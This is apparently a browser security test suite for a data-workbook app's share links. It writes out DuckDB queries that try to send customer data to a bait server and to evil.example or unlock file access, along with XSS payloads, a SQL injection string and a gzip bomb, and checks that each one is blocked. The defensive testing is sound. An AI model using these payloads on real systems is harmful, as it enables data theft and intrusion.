// Links made by someone hostile. Each is opened in Chromium (and, where it has cells, run); none
// may run script, send a request off the page's origin (the harness fails any test where one
// leaves), save or attach anything, or leave a blank page.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { encodeShareHash, packShareHash } from '../../src/engine/share-link.ts';
import { emptyWorkbook, type Cell, type SourceSpec, type Workbook } from '../../src/engine/workbook.ts';
import { SLOW, gotoApp, gridRows, savedWorkbook, sourceCard, sqlCell, statusOf, useBrowser, waitForSource, waitForStatus } from './harness.ts';

const session = useBrowser();
let bait: Server;
let baitURL = '';
const hits: string[] = [];

beforeAll(async () => {
  // A server on another origin: if anything got past the CSP and DuckDB's lockdown, it would land here.
  bait = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(200, { 'Content-Type': 'text/csv', 'Access-Control-Allow-Origin': '*' }).end('secret\n42\n');
  });
  await new Promise<void>((ok) => bait.listen(0, '127.0.0.1', () => ok()));
  baitURL = `http://127.0.0.1:${(bait.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((ok) => bait.close(() => ok())));

const CUSTOMERS: SourceSpec = {
  name: 'retail_customers', file: 'retail-customers.csv', origin: 'sample', format: 'csv', columnTypes: {}, schema: [],
};

function workbook(cells: Cell[], sources: SourceSpec[] = [CUSTOMERS], title = 'Hostile'): Workbook {
  return { ...emptyWorkbook(title), sources, cells };
}

function sql(name: string, text: string): Cell {
  return { id: name, kind: 'sql', name, sql: text };
}

interface Watched {
  page: Page;
  dialogs: string[];
}

/**
 * Opens `hash` in a fresh browser, recording any alert/confirm/prompt and every CSP violation:
 * a payload that reached the DOM as markup would show up as one or the other.
 */
async function openHostile(hash: string): Promise<Watched> {
  const { page } = await session.open({ noGoto: true });
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.defineProperty(window, '__violations', { value: seen });
    // A blocked handler on an element of the live page is reported at that element. DOMPurify's
    // parsing into a detached DOMParser document is reported at the document: no payload is live there.
    document.addEventListener('securitypolicyviolation', (e) => {
      if (e.target instanceof Element) seen.push(`${e.violatedDirective}: ${e.target.outerHTML.slice(0, 120)}`);
    });
  });
  await gotoApp(page, `${inject('baseURL')}${hash}`);
  return { page, dialogs };
}

/** What a payload could have left: a dialog, the flag it sets, CSP violations in the page, handlers or scripts in the markup. */
async function scriptReport({ page, dialogs }: Watched) {
  const seen = await page.evaluate(() => {
    const handlers = [...document.querySelectorAll('body *')].flatMap((el) =>
      [...el.attributes].filter((a) => a.name.startsWith('on') || /^\s*javascript:/i.test(a.value)).map((a) => `${el.tagName} ${a.name}`),
    );
    return {
      pwned: Reflect.get(window, '__pwned') ?? null,
      violations: Reflect.get(window, '__violations'),
      handlers,
      scripts: document.querySelectorAll('body script, iframe, object, embed').length,
    };
  });
  return { dialogs: [...dialogs], ...seen };
}

async function expectNoScriptRan(watched: Watched): Promise<void> {
  expect(await scriptReport(watched)).toEqual({ dialogs: [], pwned: null, violations: [], handlers: [], scripts: 0 });
}

async function runAll(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Run all' }).click();
}

function pageNotice(page: Page) {
  return page.getByRole('alert').first();
}

/** The start page is there and works: the link left the app usable. */
async function expectUsableStartPage(page: Page): Promise<void> {
  const start = page.getByRole('region', { name: 'Segbook' });
  await start.waitFor();
  expect(await start.getByRole('button', { name: 'Open sample data' }).isEnabled()).toBe(true);
  expect(await savedWorkbook(page)).toBeNull();
}

describe('hostile links: SQL that tries to send data out or unlock DuckDB', () => {
  it('runs every cell into an error, sends nothing, writes nothing and keeps the lockdown', async () => {
    const B = baitURL;
    const secret = "(SELECT string_agg(customer_id::VARCHAR, ',') FROM retail_customers)";
    const hostile: Array<[string, string]> = [
      ['leak_read_csv', `SELECT * FROM read_csv('${B}/leak.csv?d=' || ${secret})`],
      ['leak_evil_example', `SELECT * FROM read_csv('https://evil.example/?' || ${secret})`],
      ['leak_read_parquet', `SELECT * FROM read_parquet('${B}/leak.parquet')`],
      ['leak_from_url', `SELECT * FROM '${B}/customers.csv'`],
      ['leak_read_text', `SELECT * FROM read_text('${B}/leak.txt')`],
      ['leak_in_subquery', `SELECT (SELECT count(*) FROM read_csv_auto('${B}/sub.csv')) AS n`],
      ['attach_remote', `ATTACH '${B}/remote.duckdb' AS remote`],
      ['install_httpfs', 'INSTALL httpfs'],
      ['load_httpfs', 'LOAD httpfs'],
      ['copy_to_url', `COPY (SELECT * FROM retail_customers) TO '${B}/out.csv'`],
      ['copy_to_uploads', "COPY (SELECT * FROM retail_customers) TO '/uploads/x.csv'"],
      ['second_statement', `SELECT 1 AS one; COPY retail_customers TO '${B}/two.csv'`],
      ['set_external', 'SET enable_external_access=true'],
      ['set_directories', "SET allowed_directories=['/']"],
      ['reset_external', 'RESET enable_external_access'],
      ['reset_lock', 'SET lock_configuration=false'],
      ['read_written_file', "SELECT * FROM read_csv('/uploads/x.csv')"],
    ];
    const check = sql('settings', "SELECT current_setting('enable_external_access') AS external, current_setting('lock_configuration') AS locked, current_setting('allowed_directories') AS dirs");
    const rfm: Cell = {
      id: 'rfm_leak', kind: 'rfm', name: 'rfm_leak', input: 'retail_customers', customer: 'customer_id', date: 'signup_date',
      amount: `(SELECT count(*) FROM read_csv('${B}/rfm.csv'))`, invoice: null, exclude: `customer_id IN (SELECT * FROM read_csv('${B}/x.csv'))`,
      referenceDate: null, bins: { kind: 'quintile' }, segmentMap: [],
    };
    const watched = await openHostile(await encodeShareHash({ workbook: workbook([...hostile.map(([n, s]) => sql(n, s)), rfm, check]), data: {} }));
    const { page } = watched;
    await page.getByRole('status').filter({ hasText: 'Shared workbook: review it, then press Run all.' }).waitFor({ timeout: SLOW });
    await waitForSource(page, 'retail_customers', 2000);
    // Review mode: none of it has run.
    for (const [name] of hostile) expect(await statusOf(sqlCell(page, name))).toBe('idle');

    await runAll(page);
    for (const [name] of hostile) {
      const cell = sqlCell(page, name);
      await waitForStatus(cell, 'error', 60_000).catch(async (e: Error) => {
        throw new Error(`${name}: ${e.message}`);
      });
      expect(`${name}: ${(await cell.getByRole('alert').innerText()).trim().length > 10}`).toBe(`${name}: true`);
    }
    await waitForStatus(sqlCell(page, 'rfm_leak'), 'error', 60_000);
    await waitForStatus(sqlCell(page, 'settings'), 'done');
    await expect.poll(() => gridRows(sqlCell(page, 'settings'))).toEqual([['false', 'true', '["/uploads/"]']]);
    expect(await sqlCell(page, 'read_written_file').getByRole('alert').innerText()).toMatch(/No files found|does not exist|x\.csv/);
    await page.waitForTimeout(500);
    expect(hits).toEqual([]);
    await expectNoScriptRan(watched);
  });
});

describe('hostile links: script in text', () => {
  const flag = (where: string) => `window.__pwned='${where}'`;
  const img = (where: string) => `<img src=x onerror="${flag(where)}">`;

  it('shows Markdown, names, persona text, column and file names as text, and runs none of it', async () => {
    const notes = [
      `<script>${flag('script')}</script>`,
      img('markdown'),
      `[click me](javascript:${flag('md-link')})`,
      `<a href="javascript:${flag('a')}">a link</a> <iframe src="javascript:${flag('iframe')}"></iframe>`,
      `<svg onload="${flag('svg')}"></svg><details open ontoggle="${flag('toggle')}"><summary>x</summary></details>`,
      `<form action="javascript:${flag('form')}"><input autofocus onfocus="${flag('focus')}"></form>`,
    ];
    const header = `id,"${img('header').replaceAll('"', '""')}",segment`;
    const sources: SourceSpec[] = [
      CUSTOMERS,
      {
        name: 'evil_file', file: `${img('file')}.csv`, origin: 'file', format: 'csv', columnTypes: {},
        schema: [{ name: `<script>${flag('column')}</script>`, type: 'VARCHAR' }],
      },
      { name: 'people', file: 'people.csv', origin: 'file', format: 'csv', columnTypes: {}, schema: [] },
    ];
    const cells: Cell[] = [
      ...notes.map((text, i): Cell => ({ id: `note${i}`, kind: 'markdown', text })),
      sql('labelled', `SELECT id, segment AS "${img('alias').replaceAll('"', '""')}" FROM people -- </script><script>${flag('sql')}</script>`),
      {
        id: 'profile', kind: 'profile', name: 'profile', input: 'people', segmentColumn: 'segment', numeric: ['id'], categorical: [],
        valueColumn: null, playbook: [], targets: ['a'], churn: null, attributes: [], previous: null, explainColumns: [],
        personas: { a: { name: img('persona-name'), description: `<script>${flag('persona')}</script>`, actions: [img('action')] } },
      },
      {
        id: 'rules', kind: 'rules', name: 'rules', input: 'people', elseSegment: img('else'),
        segments: [{ name: img('segment'), match: 'all', conditions: [{ column: 'id', op: '>', value: `1) OR (${flag('value')}` }] }],
      },
      { id: 'chart', kind: 'chart', input: 'labelled', mark: 'bar', x: 'id', y: null, color: null, facet: null, title: img('chart') },
    ];
    const data = { people: `${header}\n1,x,a\n2,y,b\n3,z,a\n` };
    const watched = await openHostile(await encodeShareHash({ workbook: workbook(cells, sources, img('title')), data }));
    const { page } = watched;
    await page.getByRole('status').filter({ hasText: 'Shared workbook: review it, then press Run all.' }).waitFor({ timeout: SLOW });
    await waitForSource(page, 'people', 3);
    // Names are shown as the text they are.
    expect(await sourceCard(page, 'evil_file').innerText()).toContain(`Attach ${img('file')}.csv (expects: <script>${flag('column')}</script> VARCHAR)`);
    expect(await sourceCard(page, 'people').getByRole('region', { name: 'Schema of people' }).innerText()).toContain(img('header'));
    expect(await page.getByRole('textbox', { name: 'Workbook title' }).inputValue()).toBe(img('title'));
    const link = page.getByRole('link', { name: 'click me' });
    if (await link.count()) await link.click();
    await runAll(page);
    await waitForStatus(sqlCell(page, 'labelled'), 'done');
    await waitForStatus(sqlCell(page, 'profile'), 'done', 60_000);
    await waitForStatus(sqlCell(page, 'rules'), 'error', 60_000);
    await page.waitForTimeout(1000);
    const text = await page.locator('body').innerText();
    // The rule's value, built to break out of SQL, is refused as a value; its name is shown as text.
    expect(await sqlCell(page, 'rules').getByRole('alert').innerText()).toContain(`but "1) OR (${flag('value')}" is not a number`);
    for (const where of ['persona-name', 'segment', 'chart']) expect(`${where}: ${text.includes(img(where))}`).toBe(`${where}: true`);
    expect(text).toContain(img('alias'));
    await expectNoScriptRan(watched);
  });

  it('has a detector that does catch a payload reaching the page (so the checks above can fail)', async () => {
    const watched = await openHostile('');
    await watched.page.evaluate(() => {
      const div = document.createElement('div');
      div.innerHTML = '<img src="x" onerror="window.__pwned=1">';
      document.body.append(div);
    });
    await watched.page.waitForTimeout(500);
    expect(await scriptReport(watched)).toEqual({
      dialogs: [], pwned: null, violations: ['script-src-attr: <img src="x" onerror="window.__pwned=1">'], handlers: ['IMG onerror'], scripts: 0,
    });
  });

  it('refuses a link whose cell names are not table names, naming the problem', async () => {
    for (const name of [img('name'), 'x"; DROP TABLE retail_customers; --']) {
      const watched = await openHostile(await packShareHash(JSON.stringify(workbook([sql(name, 'SELECT 1')])), 1));
      await expect.poll(() => pageNotice(watched.page).innerText()).toContain(`cell 1 has an invalid table name ${JSON.stringify(name)}`);
      await expectUsableStartPage(watched.page);
      await expectNoScriptRan(watched);
    }
  });
});

describe('hostile links: damaged, foreign and oversized links', () => {
  async function good(): Promise<string> {
    return encodeShareHash({ workbook: workbook([sql('one', 'SELECT 1 AS x')]), data: {} });
  }
  const cases: Array<[string, () => Promise<string>, RegExp]> = [
    ['an empty link', async () => '#wb=', /no format version/],
    ['a link with nothing after its version', async () => '#wb=1.', /is empty: nothing follows #wb=1\./],
    ['a link that is not base64', async () => '#wb=1.<script>alert(1)</script>', /damaged: it holds .* at character 1/],
    ['a truncated link', async () => (await good()).slice(0, 60), /cut short/],
    ['a corrupted link', async () => {
      const g = await good();
      return g.slice(0, 30) + [...g.slice(30, 60)].reverse().join('') + g.slice(60);
    }, /damaged/],
    ['gzip that holds no workbook', () => packShareHash('<html>hello</html>', 1), /not a workbook/],
    ['a link from a future version', async () => '#wb=7.' + (await good()).slice(6), /made by a newer Segbook \(format 7\); this one reads up to format 1\. Update Segbook/],
    ['a gzip bomb', () => packShareHash(`{"format":"segbook-workbook","version":1,"title":"${'a'.repeat(20 * 1024 * 1024)}"}`, 1), /unpacks to more than 5 MB/],
  ];

  for (const [label, make, message] of cases) {
    it(`refuses ${label} with a clear message and a working page`, async () => {
      const watched = await openHostile(await make());
      await expect.poll(() => pageNotice(watched.page).innerText(), { timeout: 10_000 }).toMatch(message);
      await expectUsableStartPage(watched.page);
      await expectNoScriptRan(watched);
    });
  }

  it('refuses a 10 MB link quickly, and the page keeps working', async () => {
    const watched = await openHostile('');
    const { page } = watched;
    await page.getByRole('region', { name: 'Segbook' }).waitFor();
    // Browsers refuse to navigate to a URL this long, but a page can set its own hash to one.
    const started = Date.now();
    await page.evaluate(() => (location.hash = 'wb=1.' + 'A'.repeat(10 * 1024 * 1024)));
    await expect.poll(() => pageNotice(page).innerText(), { timeout: 10_000 }).toMatch(/This link is 10,485,766 characters long; Segbook opens links up to 2,097,152/);
    expect(Date.now() - started).toBeLessThan(5_000);
    await expectUsableStartPage(page);
    await page.getByRole('region', { name: 'Segbook' }).getByRole('button', { name: 'Open sample data' }).click();
    await waitForSource(page, 'retail_customers', 2000);
    await expectNoScriptRan(watched);
  });
});
